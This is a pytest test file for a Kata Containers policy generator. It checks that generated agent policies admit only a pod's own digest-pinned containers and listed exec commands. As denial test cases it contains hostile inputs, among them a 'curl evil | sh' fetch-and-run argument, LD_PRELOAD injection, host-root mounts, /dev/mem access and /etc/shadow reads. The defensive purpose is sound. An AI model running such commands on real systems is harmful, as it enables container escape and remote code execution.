"""``trustpod policy generate``: the policy allows exactly its pod, images pinned to digests."""

from __future__ import annotations

import copy
import json
import tomllib
from pathlib import Path
from typing import Any

import pytest

from trustpod.agent.pb import protos
from trustpod.agent.policy import KataPolicyGate
from trustpod.agent.policy_engine import HOISTED_KEY, PolicySettings, hoist_policy_data
from trustpod.agent.policy_gen import (
    EXEC_ANNOTATION,
    GeneratorSettings,
    ImageInfo,
    generate_policy,
    load_settings,
    parse_pod,
)
from trustpod.agent.serde import normalize
from trustpod.cli.main import main
from trustpod.errors import ConfigError, EvidenceError, PolicyDenied
from trustpod.initdata import InitData
from trustpod.oci.reference import ImageReference

pb = protos().grpc
D1 = "sha256:" + "1" * 64
D2 = "sha256:" + "2" * 64
BAD = "sha256:" + "f" * 64
SANDBOX_ID = "a" * 64

POD = f"""
apiVersion: v1
kind: Pod
metadata:
  name: web
  namespace: shop
  annotations:
    {EXEC_ANNOTATION}: '{{"app": [["cat", "/etc/os-release"]]}}'
spec:
  automountServiceAccountToken: false
  containers:
  - name: app
    image: registry.example:5000/shop/app@{D1}
    command: ["/bin/server"]
    args: ["--port", "8080"]
    env:
    - name: MODE
      value: prod
    - name: TOKEN
      valueFrom: {{secretKeyRef: {{name: s, key: k}}}}
    securityContext:
      runAsUser: 1000
      runAsGroup: 1000
      allowPrivilegeEscalation: false
      readOnlyRootFilesystem: true
    volumeMounts:
    - name: data
      mountPath: /data
      readOnly: true
    livenessProbe:
      exec:
        command: ["/bin/health"]
  - name: side
    image: busybox:1.36
    command: ["sleep", "infinity"]
  volumes:
  - name: data
    emptyDir: {{}}
"""

SETTINGS = GeneratorSettings(
    images={"busybox:1.36": ImageInfo(D2, {"config": {"Env": ["PATH=/bin"], "WorkingDir": "/"}})}
)


def _policy() -> str:
    return generate_policy(parse_pod(POD), SETTINGS)


def _base(cid: str, ctype: str, name: str | None) -> dict[str, Any]:
    anno = {
        "io.kubernetes.cri.container-type": ctype,
        "io.kubernetes.cri.sandbox-name": "web",
        "io.kubernetes.cri.sandbox-namespace": "shop",
        "io.kubernetes.cri.sandbox-id": SANDBOX_ID,
    }
    if name:
        anno["io.kubernetes.cri.container-name"] = name
    return {
        "container_id": cid,
        "exec_id": cid,
        "OCI": {
            "Version": "1.1.0",
            "Annotations": anno,
            "Root": {"Path": f"/run/kata-containers/{cid}/rootfs", "Readonly": False},
            "Mounts": [
                {"destination": "/proc", "source": "proc", "type_": "proc", "options": ["nosuid"]},
                {
                    "destination": "/etc/hosts",
                    "source": f"/run/kata-containers/shared/containers/{cid}-{'a' * 16}-hosts",
                    "type_": "bind",
                    "options": ["rbind", "rprivate", "ro"],
                },
            ],
            "Process": {
                "Cwd": "/",
                "Capabilities": {"Bounding": ["CAP_CHOWN", "CAP_KILL"], "Effective": ["CAP_KILL"]},
            },
            "Linux": {
                "Namespaces": [
                    {"Type": "ipc", "Path": ""},
                    {"Type": "uts", "Path": ""},
                    {"Type": "mount", "Path": ""},
                ]
            },
        },
    }


def _pause(netns: str = "/run/netns/podns") -> dict[str, Any]:
    req = _base(SANDBOX_ID, "sandbox", None)
    req["OCI"]["Linux"]["Namespaces"].append({"Type": "network", "Path": netns})
    req["OCI"]["Root"]["Readonly"] = True
    req["OCI"]["Process"].update(
        {
            "Args": ["/pause"],
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
            "User": {"UID": 65535, "GID": 65535},
            "NoNewPrivileges": True,
        }
    )
    return req


def _pull(cid: str, source: str) -> dict[str, Any]:
    return {
        "driver": "image_guest_pull",
        "source": source,
        "mount_point": f"/run/kata-containers/{cid}/rootfs",
        "fstype": "overlay",
    }


def _app(
    cid: str = "b" * 64, image: str = f"registry.example:5000/shop/app@{D1}"
) -> dict[str, Any]:
    req = _base(cid, "container", "app")
    req["OCI"]["Annotations"]["io.kubernetes.cri.image-name"] = image
    req["OCI"]["Root"]["Readonly"] = True
    req["OCI"]["Process"].update(
        {
            "Args": ["/bin/server", "--port", "8080"],
            "Env": [
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                "HOSTNAME=web",
                "MODE=prod",
                "TOKEN=s3cr3t",
                "KUBERNETES_SERVICE_HOST=10.0.0.1",
                "KUBERNETES_PORT_443_TCP_PORT=443",
            ],
            "User": {"UID": 1000, "GID": 1000, "AdditionalGids": [1000]},
            "NoNewPrivileges": True,
        }
    )
    req["OCI"]["Mounts"].append(
        {
            "destination": "/data",
            "source": "/run/kata-containers/sandbox/ephemeral/data",
            "type_": "bind",
            "options": ["rbind", "ro"],
        }
    )
    req["storages"] = [_pull(cid, image)]
    return req


def _side(cid: str = "c" * 64) -> dict[str, Any]:
    req = _base(cid, "container", "side")
    req["OCI"]["Process"].update(
        {"Args": ["sleep", "infinity"], "Env": ["PATH=/bin"], "User": {"UID": 0, "GID": 0}}
    )
    req["storages"] = [_pull(cid, f"docker.io/library/busybox@{D2}")]
    return req


def _check(gate: KataPolicyGate, kind: str, request: dict[str, Any]) -> bool:
    desc = protos().pool.FindMessageTypeByName(f"grpc.{kind}")
    return gate.evaluate(kind, normalize(desc, request)).allowed


def _exec(cid: str, args: list[str], uid: int = 1000) -> dict[str, Any]:
    return {
        "container_id": cid,
        "exec_id": "e1",
        "process": {"Args": args, "Cwd": "/", "User": {"UID": uid, "GID": uid}},
    }


@pytest.fixture(params=[True, False], ids=["hoisted", "literal"])
def gate(request: pytest.FixtureRequest) -> KataPolicyGate:
    """Both ways of evaluating policy_data (hoisted into data once, or the literal per query)."""
    g = KataPolicyGate(settings=PolicySettings(hoist_policy_data=request.param))
    g.apply_initdata_policy(_policy())
    assert _check(g, "CreateSandboxRequest", {"sandbox_id": SANDBOX_ID, "hostname": "web"})
    assert _check(g, "CreateContainerRequest", _pause())
    return g


def test_generated_policy_allows_its_pod(gate: KataPolicyGate) -> None:
    assert _check(gate, "CreateContainerRequest", _app())
    assert _check(gate, "CreateContainerRequest", _side())
    state = gate.state["pstate"]
    assert set(state["containers"]) == {SANDBOX_ID, "b" * 64, "c" * 64}
    assert state["netns"] == "/run/netns/podns"
    for kind in ("StartContainerRequest", "WaitProcessRequest", "GuestDetailsRequest"):
        assert _check(gate, kind, {"container_id": "b" * 64})
    # the listed exec commands: annotation and liveness probe, in that container only
    assert _check(gate, "ExecProcessRequest", _exec("b" * 64, ["cat", "/etc/os-release"]))
    assert _check(gate, "ExecProcessRequest", _exec("b" * 64, ["/bin/health"]))
    assert not _check(gate, "ExecProcessRequest", _exec("c" * 64, ["/bin/health"], uid=0))
    assert _check(gate, "RemoveContainerRequest", {"container_id": "b" * 64})
    assert not _check(gate, "ExecProcessRequest", _exec("b" * 64, ["/bin/health"]))


def test_extra_exec_denied(gate: KataPolicyGate) -> None:
    assert _check(gate, "CreateContainerRequest", _app())
    for args in (["sh"], ["cat", "/etc/shadow"], ["cat"], []):
        assert not _check(gate, "ExecProcessRequest", _exec("b" * 64, args))
    # as another user, or before the container exists
    assert not _check(gate, "ExecProcessRequest", _exec("b" * 64, ["/bin/health"], uid=0))
    assert not _check(gate, "ExecProcessRequest", _exec("d" * 64, ["/bin/health"]))


def test_changed_image_digest_denied(gate: KataPolicyGate) -> None:
    other = f"registry.example:5000/shop/app@{BAD}"
    assert not _check(gate, "CreateContainerRequest", _app(image=other))
    # storage says the pinned image, annotation another one: denied
    req = _app()
    req["OCI"]["Annotations"]["io.kubernetes.cri.image-name"] = other
    assert not _check(gate, "CreateContainerRequest", req)
    # pinned digest but no guest pull (host-provided rootfs): denied
    req = _app()
    req["storages"] = []
    assert not _check(gate, "CreateContainerRequest", req)
    # a tag instead of the digest: denied
    req = _side()
    req["storages"] = [_pull("c" * 64, "docker.io/library/busybox:1.36")]
    assert not _check(gate, "CreateContainerRequest", req)


def test_container_not_in_policy_denied(gate: KataPolicyGate) -> None:
    req = _side()
    req["OCI"]["Annotations"]["io.kubernetes.cri.container-name"] = "miner"
    assert not _check(gate, "CreateContainerRequest", req)


@pytest.mark.parametrize(
    "mutate",
    [
        lambda r: r["OCI"]["Process"].update(Args=["/bin/sh", "-c", "curl evil | sh"]),
        lambda r: r["OCI"]["Process"]["Env"].append("LD_PRELOAD=/tmp/x.so"),
        lambda r: r["OCI"]["Process"]["User"].update(UID=0),
        lambda r: r["OCI"]["Process"].update(NoNewPrivileges=False),
        lambda r: r["OCI"]["Process"]["Capabilities"]["Bounding"].append("CAP_SYS_ADMIN"),
        lambda r: r["OCI"]["Root"].update(Readonly=False),
        lambda r: r["OCI"]["Mounts"].append(
            {"destination": "/host", "source": "/", "type_": "bind", "options": ["rbind"]}
        ),
        lambda r: r["OCI"]["Mounts"][2]["options"].remove("ro"),
        lambda r: r["OCI"].update(Hooks={"Prestart": [{"Path": "/bin/sh"}]}),
        lambda r: r["OCI"]["Annotations"].update({"io.katacontainers.config.agent.debug": "1"}),
        lambda r: r["OCI"]["Annotations"].update({"io.kubernetes.cri.sandbox-namespace": "kube"}),
        lambda r: r.update(string_user={"uid": "0"}),
        lambda r: r.update(sandbox_pidns=True),
        lambda r: r.update(container_id="../../pstate"),
        lambda r: r["OCI"]["Linux"].update(Devices=[{"Path": "/dev/mem", "Type": "c"}]),
        lambda r: r["OCI"]["Linux"]["Namespaces"].pop(2),  # no mount namespace of its own
        lambda r: r["OCI"]["Linux"]["Namespaces"].append({"Type": "pid", "Path": "/proc/1/ns/pid"}),
        lambda r: r["OCI"]["Linux"]["Namespaces"].append({"Type": "user", "Path": ""}),
        lambda r: r["OCI"]["Linux"]["Namespaces"].append(
            {"Type": "network", "Path": "/run/netns/other"}
        ),
        lambda r: r["OCI"].update(Linux=None),
    ],
)
def test_privileged_or_changed_container_denied(gate: KataPolicyGate, mutate: Any) -> None:
    req = copy.deepcopy(_app())
    mutate(req)
    assert not _check(gate, "CreateContainerRequest", req)
    assert _check(gate, "CreateContainerRequest", _app())  # the unchanged one still passes


def test_network_namespace_is_the_pods() -> None:
    g = KataPolicyGate(_policy())
    req = _pause()
    req["OCI"]["Linux"]["Namespaces"].pop()
    assert not _check(g, "CreateContainerRequest", req)  # the sandbox needs one
    assert _check(g, "CreateContainerRequest", _pause())
    other = _pause("/run/netns/podns-diff")
    other["container_id"] = "9" * 64
    assert not _check(g, "CreateContainerRequest", other)  # a second, different one
    same = _app()
    same["OCI"]["Linux"]["Namespaces"].append({"Type": "network", "Path": "/run/netns/podns"})
    assert _check(g, "CreateContainerRequest", same)


def test_same_container_id_twice_denied(gate: KataPolicyGate) -> None:
    assert _check(gate, "CreateContainerRequest", _app())
    assert not _check(gate, "CreateContainerRequest", _app())


def test_other_requests_that_matter(gate: KataPolicyGate) -> None:
    ok = "/run/kata-containers/shared/containers/" + "b" * 64 + "-0123456789abcdef-resolv.conf"
    copy_ok = {"path": ok, "file_type": "Regular", "symlink_target": None}
    assert gate.evaluate("CopyFileRequest", copy_ok).allowed
    for path in ("/etc/ssl/cert.pem", ok + "/../../../../etc/passwd", "relative"):
        assert not gate.evaluate("CopyFileRequest", {**copy_ok, "path": path}).allowed
    link = {"path": ok + "/lnk", "file_type": "Symlink", "symlink_target": "..data/token"}
    assert gate.evaluate("CopyFileRequest", link).allowed
    for target in ("/etc/passwd", "../x", "a/../../b"):
        assert not gate.evaluate("CopyFileRequest", {**link, "symlink_target": target}).allowed
    assert not _check(gate, "SetPolicyRequest", {"policy": "package agent_policy"})
    for kind in ("UpdateContainerRequest", "SetGuestDateTimeRequest", "AddSwapRequest"):
        assert not gate.evaluate(kind, {}).allowed
    assert not _check(gate, "ReadStreamRequest", {"container_id": "b" * 64})  # logs: default off
    assert not _check(gate, "CreateSandboxRequest", {"guest_hook_path": "/evil"})
    assert not _check(gate, "CreateSandboxRequest", {"sandbox_pidns": True})
    iface = {"interface": {"name": "eth0", "device": "eth0", "hwAddr": "66:74:9f:6a:96:01"}}
    iface["interface"]["IPAddresses"] = [{"address": "10.244.0.14", "mask": "24"}]
    assert _check(gate, "UpdateInterfaceRequest", iface)
    lo = copy.deepcopy(iface)
    lo["interface"]["name"] = "lo"
    assert not _check(gate, "UpdateInterfaceRequest", lo)
    flags = copy.deepcopy(iface)
    flags["interface"]["raw_flags"] = 8
    assert not _check(gate, "UpdateInterfaceRequest", flags)
    route = {
        "routes": {"Routes": [{"dest": "10.0.0.0/8", "gateway": "10.244.0.1", "device": "eth0"}]}
    }
    assert _check(gate, "UpdateRoutesRequest", route)
    route["routes"]["Routes"][0]["dest"] = "127.0.0.0/8"
    assert not _check(gate, "UpdateRoutesRequest", route)


def test_tags_refused_without_resolver() -> None:
    with pytest.raises(ConfigError) as exc:
        generate_policy(parse_pod(POD))
    assert exc.value.reason == "policy_gen.unpinned_image" and "busybox:1.36" in exc.value.message
    seen: list[str] = []

    def resolver(image: ImageReference) -> ImageInfo:
        seen.append(str(image))
        return ImageInfo(D2)

    text = generate_policy(parse_pod(POD), GeneratorSettings(), resolver)
    assert seen == ["docker.io/library/busybox:1.36"]
    assert f"docker.io/library/busybox@{D2}" in text


def test_policy_text_shape() -> None:
    text = _policy()
    assert text.startswith("# Generated by `trustpod policy generate`")
    tail = text[text.index("policy_data := ") + len("policy_data := ") :]
    data = json.loads(tail)
    assert [c["name"] for c in data["containers"]] == ["pause", "app", "side"]
    assert data["containers"][1]["image_refs"][0] == f"registry.example:5000/shop/app@{D1}"


@pytest.mark.parametrize(
    ("pod", "reason"),
    [
        ("kind: Service\nmetadata: {name: x}\n", "policy_gen.pod"),
        (
            "kind: Pod\nmetadata: {name: x}\nspec: {hostPID: true, containers: [{name: a, "
            f"image: 'a@{D1}', command: [x]}}]}}\n",
            "policy_gen.pod",
        ),
        (
            "kind: Pod\nmetadata: {name: x}\nspec: {containers: [{name: a, "
            f"image: 'a@{D1}'}}]}}\n",
            "policy_gen.image_config",
        ),
        ("kind: Pod\nmetadata: {name: x}\nspec: {containers: []}\n", "policy_gen.pod"),
        (": : :", "policy_gen.pod"),
    ],
)
def test_unusable_pods(pod: str, reason: str) -> None:
    with pytest.raises((ConfigError, EvidenceError)) as exc:
        generate_policy(parse_pod(pod))
    assert exc.value.reason == reason


def test_deployment_template_and_settings_file() -> None:
    dep = f"""
apiVersion: apps/v1
kind: Deployment
metadata: {{name: api}}
spec:
  template:
    metadata:
      annotations: {{"{EXEC_ANNOTATION}": '[["date"]]'}}
    spec:
      containers:
      - {{name: api, image: "quay.io/x/api:v1"}}
"""
    settings = load_settings(
        json.dumps(
            {
                "images": {
                    "quay.io/x/api:v1": {
                        "digest": D1,
                        "config": {
                            "config": {"Entrypoint": ["/api"], "Cmd": ["serve"], "User": "7:8"}
                        },
                    }
                },
                "allow_logs": True,
            }
        )
    )
    data = json.loads(generate_policy(parse_pod(dep), settings).split("policy_data := ", 1)[1])
    api = data["containers"][1]
    assert api["args"] == ["/api", "serve"] and (api["uid"], api["gid"]) == (7, 8)
    assert api["exec"] == [["date"]]
    assert data["pod"]["name"] is None and data["pod"]["name_prefix"] == "api-"
    assert data["request_defaults"]["ReadStreamRequest"] is True
    for bad in ('{"nope": 1}', "[]", '{"images": {"a": "sha1:00"}}', '{"env_regex": ["("]}'):
        with pytest.raises((ConfigError, EvidenceError)):
            load_settings(bad)


def test_generate_cli_and_initdata(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "pod.yaml").write_text(POD)
    (tmp_path / "s.json").write_text(json.dumps({"images": {"busybox:1.36": D2}}))
    args = [
        "policy",
        "generate",
        str(tmp_path / "pod.yaml"),
        "--settings",
        str(tmp_path / "s.json"),
    ]
    assert main(args) == 0
    rego = capsys.readouterr().out
    assert "policy_data := {" in rego
    assert main([*args, "--initdata", "--kbs-url", "https://kbs.example:8080"]) == 0
    toml = capsys.readouterr().out
    doc = InitData.parse(toml)
    assert doc.data["policy.rego"].strip() == rego.strip()
    claims = doc.claims()["agent_policy_claims"]
    assert claims["containers"][1]["image_refs"][0].endswith(D1)
    assert tomllib.loads(toml)["data"]["policy.rego"]
    # policy check reads the policy straight from the initdata
    (tmp_path / "initdata.toml").write_text(toml)
    (tmp_path / "c.json").write_text(json.dumps([{"kind": "ExecProcessRequest", "request": {}}]))
    check = ["policy", "check", "--policy", str(tmp_path / "initdata.toml")]
    assert main([*check, "--cases", str(tmp_path / "c.json")]) == 0
    assert json.loads(capsys.readouterr().out)["allowed"] is False
    # a tag without settings: a clear error, exit 2
    assert main(["policy", "generate", str(tmp_path / "pod.yaml")]) == 2
    assert "pins every image" in capsys.readouterr().err


def test_generated_policy_through_policy_check(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "p.rego").write_text(_policy())
    cases = [
        {
            "description": "pause",
            "kind": "CreateContainerRequest",
            "request": _pause(),
            "allowed": True,
        },
        {
            "description": "app",
            "kind": "CreateContainerRequest",
            "request": _app(),
            "allowed": True,
        },
        {
            "description": "exec probe",
            "kind": "ExecProcessRequest",
            "request": _exec("b" * 64, ["/bin/health"]),
            "allowed": True,
        },
        {
            "description": "exec shell",
            "kind": "ExecProcessRequest",
            "request": _exec("b" * 64, ["sh"]),
            "allowed": False,
        },
    ]
    (tmp_path / "c.json").write_text(json.dumps(cases))
    assert (
        main(
            [
                "policy",
                "check",
                "--policy",
                str(tmp_path / "p.rego"),
                "--cases",
                str(tmp_path / "c.json"),
            ]
        )
        == 0
    )
    rows = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert [r["allowed"] for r in rows] == [True, True, True, False]


def test_denial_message_names_the_rule(gate: KataPolicyGate) -> None:
    assert _check(gate, "CreateContainerRequest", _app())
    req = pb.ExecProcessRequest(container_id="b" * 64)
    req.process.Args.append("sh")
    req.process.User.UID = 1000
    with pytest.raises(PolicyDenied) as exc:
        gate.check("ExecProcessRequest", req)
    assert 'ExecProcessRequest: Args ["sh"] in app' in exc.value.message


def test_create_denial_says_what_was_asked_and_what_the_policy_allows(
    gate: KataPolicyGate,
) -> None:
    """Prints run only on a denial (ADR 0960) and name the container and both argvs."""
    desc = protos().pool.FindMessageTypeByName("grpc.CreateContainerRequest")
    req = copy.deepcopy(_app())
    req["OCI"]["Process"]["Args"] = ["/bin/sh"]
    decision = gate.evaluate("CreateContainerRequest", normalize(desc, req))
    assert not decision.allowed
    assert 'denied for app Args ["/bin/sh"]' in decision.prints
    assert "the policy's Args for it [" in decision.prints
    req["OCI"]["Annotations"]["io.kubernetes.cri.container-name"] = "intruder"
    decision = gate.evaluate("CreateContainerRequest", normalize(desc, req))
    assert "denied for intruder" in decision.prints and "no such container" in decision.prints
    allowed = gate.evaluate("CreateContainerRequest", normalize(desc, _app()))
    assert allowed.allowed and allowed.prints == ""


def test_hoisting_is_exact_or_not_done() -> None:
    text = _policy()
    head, data = hoist_policy_data(text)
    assert data is not None and head.endswith(f"policy_data := data.{HOISTED_KEY}\n")
    assert json.loads(data) == json.loads(text.split("policy_data := ", 1)[1])
    for other in (
        "package agent_policy\npolicy_data := {1, 2}\n",  # a set: not JSON
        "package agent_policy\npolicy_data := {}\nx := 1\n",  # not the tail
        "package agent_policy\npolicy_data := {}\npolicy_data := {}\n",
        "package agent_policy\ndefault A := true\n",
    ):
        assert hoist_policy_data(other) == (other, None)


def test_state_cannot_overwrite_hoisted_data() -> None:
    policy = (
        "package agent_policy\n"
        'CreateContainerRequest := {"allowed": true, "ops": [{"op": "add", "path": '
        f'"/{HOISTED_KEY}", "value": {{}}}}]}}\n'
        'policy_data := {"a": 1}\n'
    )
    gate = KataPolicyGate(policy)
    with pytest.raises(ConfigError):
        gate.evaluate("CreateContainerRequest", {})
    assert gate.state == {"pstate": {}}


def test_generate_resolves_tags_at_a_real_registry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`--resolve`: tag -> manifest digest and the image config's Entrypoint/Cmd/Env/User, from
    a real docker-registry on 127.0.0.1 (trustpod.oci's client, every digest checked)."""
    import shutil

    if shutil.which("docker-registry") is None:
        pytest.skip("docker-registry not installed (apt package docker-registry)")
    from oci_support import Registry, push_blob, push_manifest

    reg = Registry(tmp_path / "registry")
    try:
        config = json.dumps(
            {
                "architecture": "amd64",
                "os": "linux",
                "config": {
                    "Entrypoint": ["/bin/app"],
                    "Cmd": ["--serve"],
                    "Env": ["PATH=/bin", "APP_HOME=/srv"],
                    "WorkingDir": "/srv",
                    "User": "10:20",
                },
                "rootfs": {"type": "layers", "diff_ids": []},
            }
        ).encode()
        manifest = {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json",
                "digest": push_blob(reg.host, "team/app", config),
                "size": len(config),
            },
            "layers": [],
        }
        digest = push_manifest(reg.host, "team/app", "v1", manifest)
        pod = tmp_path / "pod.yaml"
        pod.write_text(
            "kind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
            f"  - {{name: app, image: '{reg.host}/team/app:v1'}}\n"
        )
        args = ["policy", "generate", str(pod), "--resolve", "--insecure-http-registry", reg.host]
        assert main(args) == 0, capsys.readouterr().err
        text = capsys.readouterr().out
    finally:
        reg.close()
    app = json.loads(text.split("policy_data := ", 1)[1])["containers"][1]
    assert app["image_refs"][0] == f"{reg.host}/team/app@{digest}"
    assert app["args"] == ["/bin/app", "--serve"] and app["cwd"] == "/srv"
    assert (app["uid"], app["gid"]) == (10, 20)
    assert app["env"] == ["PATH=/bin", "APP_HOME=/srv"]
